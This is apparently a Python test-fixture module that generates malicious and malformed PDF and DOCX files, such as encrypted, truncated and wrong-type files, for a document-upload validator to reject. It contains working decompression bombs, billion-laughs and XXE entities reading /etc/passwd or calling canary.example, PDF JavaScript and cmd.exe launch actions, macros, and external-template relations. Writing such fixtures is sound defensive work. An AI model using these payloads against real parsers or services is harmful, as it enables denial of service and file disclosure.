"""Documents that nobody should read, a hundred and more of them, each with the reasons for which one may be refused."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

from pypdf import PdfReader, PdfWriter

TEXT = "Màng lọc nước lợ công suất nhỏ cho hộ nuôi trồng thủy sản, đã thử nghiệm tại hai trang trại ở Nam Định."
PLAIN = (
    "A small membrane unit for brackish water, tried on two farms in Nam Dinh; the cartridge is changed once a year."
)
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


class Bad(NamedTuple):
    """A document that is to be refused, and for which of the reasons."""

    name: str
    content: bytes
    reasons: frozenset[str]


def paragraphs(*texts: str) -> str:
    """The main part of a DOCX."""
    said = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts)
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{_WORD}"><w:body>{said}</w:body></w:document>'


def docx(more: dict[str, bytes | str] | None = None, document: str | bytes | None = None) -> bytes:
    """A DOCX with some parts more."""
    target = io.BytesIO()
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": _TYPES,
        "word/document.xml": paragraphs(TEXT, PLAIN) if document is None else document,
    }
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in (parts | (more or {})).items():
            archive.writestr(name, part)
    return target.getvalue()


def pdf(objects: tuple[str, ...] = (), catalogue: str = "", pages: int = 1, text: str = PLAIN, page: str = "") -> bytes:
    """A PDF written by hand: its catalogue and pages with further keys, and further objects from number 10000 on."""
    stream = f"BT /F1 10 Tf 20 700 Td ({text}) Tj ET".encode("latin-1")
    kids = " ".join(f"{100 + number} 0 R" for number in range(pages))
    said: dict[int, bytes] = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
        2: f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: b"<< /Length %d >>\nstream\n%b\nendstream" % (len(stream), stream),
    }
    for number in range(pages):
        said[100 + number] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            f"/Resources << /Font << /F1 3 0 R >> >> {page} >>".encode()
        )
    said |= {20_000 + at: one.encode("latin-1") for at, one in enumerate(objects)}
    return _written(said)


def _written(said: dict[int, bytes]) -> bytes:
    body, places = bytearray(b"%PDF-1.7\n"), {}
    for number, one in said.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    start = len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in sorted(places.items()):
        body += b"%d 1\n%010d 00000 n \n" % (number, place)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (max(places) + 1, start)
    return bytes(body)


def _encrypted() -> Iterator[Bad]:
    for name, user, bits in (("user", "a", 40), ("owner", "", 128), ("both", "b", 128)):
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
        writer.encrypt(user, "owner", algorithm="RC4-40" if bits == 40 else "RC4-128")
        target = io.BytesIO()
        writer.write(target)
        yield Bad(f"encrypted-{name}.pdf", target.getvalue(), frozenset({"encrypted"}))
    container = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)
    yield Bad("encrypted.docx", container, frozenset({"encrypted"}))
    flagged = bytearray(docx())
    at = flagged.index(b"PK\x01\x02")
    flagged[at + 8] |= 1
    yield Bad("password.docx", bytes(flagged), frozenset({"encrypted"}))


def _bombs() -> Iterator[Bad]:
    refused = frozenset({"bomb"})
    zeros = bytes(30_000_000)
    yield Bad("one-part.docx", docx({"word/media/a.bin": zeros}), refused)
    yield Bad("text.docx", docx(document=paragraphs("a " * 12_000_000)), refused)
    yield Bad("ratio.docx", docx({"word/styles.xml": b"<a>" + b" " * 5_000_000 + b"</a>"}), refused)
    yield Bad("parts.docx", docx({f"word/media/{number}.xml": "<a/>" for number in range(2_500)}), refused)
    many: dict[str, bytes | str] = {f"word/{number}.xml": b"<a>" + bytes([number]) * 900_000 for number in range(80)}
    yield Bad("together.docx", docx(many), refused)
    lying = bytearray(docx({"word/styles.xml": b"<a>" + b"x" * 900_000 + b"</a>"}))
    at = lying.index(b"word/styles.xml", lying.index(b"PK\x01\x02")) - 46
    lying[at + 24 : at + 28] = (100).to_bytes(4, "little")
    yield Bad("lying.docx", bytes(lying), frozenset({"bomb", "damaged"}))
    packed = zlib.compress(bytes(300_000_000), 9)
    bomb = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\nendstream" % (len(packed), packed)
    yield Bad("flate.pdf", _with_contents(bomb), frozenset({"damaged", "too_costly", "no_text"}))


def _with_contents(stream: bytes) -> bytes:
    return _written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
            4: stream,
            5: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        }
    )


def _pages() -> Iterator[Bad]:
    for count in (201, 1_000, 10_000):
        yield Bad(f"{count}-pages.pdf", pdf(pages=count), frozenset({"too_many_pages"}))
    yield Bad("long.pdf", pdf(pages=200, text=PLAIN * 10), frozenset({"too_long"}))
    yield Bad(
        "long.docx", docx(document=paragraphs(*[f"{number} {TEXT}" for number in range(800)])), frozenset({"too_long"})
    )


_RUN = (
    "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "<< /Type /Action /S /Launch /F (cmd.exe) >>",
    "<< /S /SubmitForm /F (http://canary.example/) >>",
    "<< /S /ImportData /F (x.fdf) >>",
    "<< /S /Rendition /JS (1) >>",
    "<< /#53 /JavaScript /#4a#53 (1) >>",
    "<< /Deep [ [ [ << /S /JavaScript /JS (1) >> ] ] ] >>",
)


def _scripts() -> Iterator[Bad]:
    refused = frozenset({"scripts"})
    for number, action in enumerate(_RUN):
        yield Bad(f"action-{number}.pdf", pdf((action,)), refused)
        yield Bad(f"opening-{number}.pdf", pdf((action,), catalogue="/OpenAction 20000 0 R"), refused)
    yield Bad(
        "names.pdf", pdf(catalogue="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"), refused
    )
    yield Bad("additional.pdf", pdf(catalogue="/AA << /WC << /S /JavaScript /JS (1) >> >>"), refused)
    yield Bad("page.pdf", pdf(page="/AA << /O << /S /JavaScript /JS (1) >> >>"), refused)
    yield Bad("xfa.pdf", pdf(catalogue="/AcroForm << /XFA (x) /Fields [] >>"), refused)
    yield Bad("macro.docx", docx({"word/vbaProject.bin": b"Attribute VB_Name"}), refused)
    yield Bad("macro-data.docx", docx({"word/vbaData.xml": "<a/>"}), refused)
    enabled = _TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    yield Bad("macro.docm", docx({"[Content_Types].xml": enabled}), refused)


def _zipped(**parts: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, part in parts.items():
            archive.writestr(name.replace("__", "/"), part)
    return target.getvalue()


def _types() -> Iterator[Bad]:
    said: dict[str, bytes] = {
        "text.pdf": TEXT.encode(),
        "page.docx": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "rich.docx": rb"{\rtf1\ansi " + PLAIN.encode() + b"}",
        "picture.pdf": b"\x89PNG\r\n\x1a\n" + bytes(500),
        "photo.pdf": b"\xff\xd8\xff\xe0" + bytes(500),
        "moving.pdf": b"GIF89a" + bytes(500),
        "program.pdf": b"MZ" + bytes(500),
        "program.docx": b"\x7fELF" + bytes(500),
        "table.docx": b"a,b\n1,2\n",
        "sheet.docx": _zipped(xl__workbook="<a/>"),
        "open.docx": _zipped(content="<a/>", mimetype="application/vnd.oasis.opendocument.text"),
        "slides.docx": _zipped(ppt__presentation="<a/>"),
        "plain-zip.docx": _zipped(readme=TEXT),
        "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000),
        "data.pdf": b'{"a": 1}',
        "data.docx": b"<?xml version='1.0'?><a/>",
        "drawing.pdf": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        "sound.pdf": b"ID3" + bytes(500),
        "columns.pdf": b"PAR1" + bytes(500),
        "script.pdf": b"%!PS-Adobe-3.0\n(x) show",
        "late.pdf": b"x" * 5_000 + pdf(),
        "nothing.pdf": b"",
        "spaces.docx": b" \n" * 100,
    }
    for name, content in said.items():
        yield Bad(name, content, frozenset({"wrong_type"}))


def _truncated() -> Iterator[Bad]:
    whole_pdf, whole_docx = pdf(), docx({"word/styles.xml": "<a>" + "x" * 3_000 + "</a>"})
    for part in (1, 2, 3, 5, 7, 9):
        yield Bad(f"cut-{part}.pdf", whole_pdf[: len(whole_pdf) * part // 10], frozenset({"damaged"}))
        yield Bad(f"cut-{part}.docx", whole_docx[: len(whole_docx) * part // 10], frozenset({"damaged"}))
    yield Bad("header.pdf", b"%PDF-1.7\n", frozenset({"damaged"}))
    yield Bad("end.pdf", b"%PDF-1.7\nstartxref\n0\n%%EOF\n", frozenset({"damaged"}))
    yield Bad("garbage.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"startxref\n9\n%%EOF\n", frozenset({"damaged"}))
    cycle = _written({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"})
    yield Bad("cycle.pdf", cycle, frozenset({"damaged", "too_costly", "no_text"}))
    yield Bad("deep.pdf", pdf(("[" * 3_000 + "]" * 3_000,)), frozenset({"damaged", "too_costly"}))
    deep = paragraphs("<w:r>" * 1_000 + "</w:r>" * 1_000)
    yield Bad("deep.docx", docx(document=deep), frozenset({"damaged"}))
    yield Bad("open-tag.docx", docx(document="<w:document"), frozenset({"damaged"}))
    wrong = bytearray(docx())
    at = wrong.index(b"PK\x01\x02")
    wrong[at + 16] ^= 0xFF
    yield Bad("sum.docx", bytes(wrong), frozenset({"damaged"}))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for text in (TEXT, PLAIN):
            archive.writestr("word/document.xml", paragraphs(text))
    yield Bad("twice.docx", target.getvalue(), frozenset({"damaged"}))


def _entities() -> Iterator[Bad]:
    refused = frozenset({"entities"})
    head = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{}">]>'
    for number, address in enumerate(("file:///etc/passwd", "http://canary.example/x", "ftp://canary.example/x")):
        said = head.format(address) + paragraphs(TEXT + "&x;").split("?>", 1)[1]
        yield Bad(f"entity-{number}.docx", docx(document=said), refused)
        yield Bad(
            f"entity-style-{number}.docx", docx({"word/styles.xml": head.format(address) + "<a>&x;</a>"}), refused
        )
        yield Bad(
            f"entity-rels-{number}.docx", docx({"word/_rels/document.xml.rels": head.format(address) + "<a/>"}), refused
        )
    laughs = "".join(f'<!ENTITY l{one} "{f"&l{one - 1};" * 10}">' for one in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY l0 "lol">{laughs}]>' + paragraphs("&l9;").split("?>", 1)[1]
    yield Bad("laughs.docx", docx(document=bomb), refused)
    yield Bad("wide.docx", docx(document=paragraphs(TEXT).replace("UTF-8", "UTF-16").encode("utf-16")), refused)


def _relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> dict[str, bytes | str]:
    name = "http://schemas.openxmlformats.org/package/2006/relationships"
    said = f'<Relationship Id="r1" Type="{_RELATION}/{kind}" Target="{target}"{mode}/>'
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="{name}">{said}</Relationships>'}


def _outside() -> Iterator[Bad]:
    refused = frozenset({"outside"})
    for kind in ("attachedTemplate", "image", "frame", "subDocument", "oleObject"):
        yield Bad(f"{kind}.docx", docx(_relation(kind, "http://canary.example/x")), refused)
    yield Bad("template-share.docx", docx(_relation("attachedTemplate", r"\\canary.example\x.dotm")), refused)
    yield Bad("other-file.pdf", pdf(("<< /S /GoToR /F (http://canary.example/a.pdf) >>",)), refused)
    yield Bad("other-part.pdf", pdf(("<< /S /GoToE /T << /R /C >> >>",)), refused)


def _embedded() -> Iterator[Bad]:
    refused = frozenset({"embedded"})
    inner = docx()
    yield Bad("in-itself.docx", docx({"word/inner.docx": inner}), refused)
    yield Bad("archive.docx", docx({"word/a.zip": _zipped(a="x")}), refused)
    yield Bad("renamed.docx", docx({"word/media/a.png": _zipped(a="x")}), refused)
    yield Bad("sheet-in.docx", docx({"word/embeddings/a.xlsx": b"x"}), refused)
    yield Bad("object.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), refused)
    yield Bad("control.docx", docx({"word/activeX/activeX1.xml": "<a/>"}), refused)
    yield Bad("program-in.docx", docx({"word/media/b.png": b"MZ" + bytes(90)}), refused)
    yield Bad("command.docx", docx({"word/run.bat": b"dir"}), refused)
    yield Bad("chunk.docx", docx(_relation("aFChunk", "a.html", "")), refused)
    deep: bytes = TEXT.encode()
    for _ in range(30):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w") as archive:
            archive.writestr("a.zip", deep)
        deep = target.getvalue()
    yield Bad("deep-zip.docx", docx({"customXml/deep.dat": deep}), refused)
    file = "<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"
    yield Bad("attached.pdf", pdf((file, "<< /Type /Filespec /F (a.exe) /EF << /F 20000 0 R >> >>")), refused)
    yield Bad("noted.pdf", pdf(("<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) >> >>",)), refused)


def _pictures() -> Iterator[Bad]:
    refused = frozenset({"no_text"})
    yield Bad("scan.pdf", pdf(text=""), refused)
    yield Bad("scans.pdf", pdf(text="", pages=30), refused)
    yield Bad("numbers.pdf", pdf(text="1", pages=9), refused)
    yield Bad("signs.pdf", pdf(text="- - - -", pages=9), refused)
    yield Bad("scan.docx", docx({"word/media/a.png": b"\x89PNG\r\n" + bytes(300)}, document=paragraphs()), refused)
    yield Bad("few.docx", docx(document=paragraphs("Trang 1", "Trang 2")), refused)
    yield Bad("deleted.docx", docx(document=paragraphs(TEXT).replace("w:t>", "w:delText>")), refused)


_KINDS: tuple[Callable[[], Iterator[Bad]], ...] = (
    _encrypted,
    _bombs,
    _pages,
    _scripts,
    _types,
    _truncated,
    _entities,
    _outside,
    _embedded,
    _pictures,
)


def bad_documents() -> Iterator[Bad]:
    """All of them."""
    for kind in _KINDS:
        yield from kind()
    yield Bad("large.pdf", b"%PDF-1.7\n" + bytes(21 * 1_048_576), frozenset({"too_large"}))
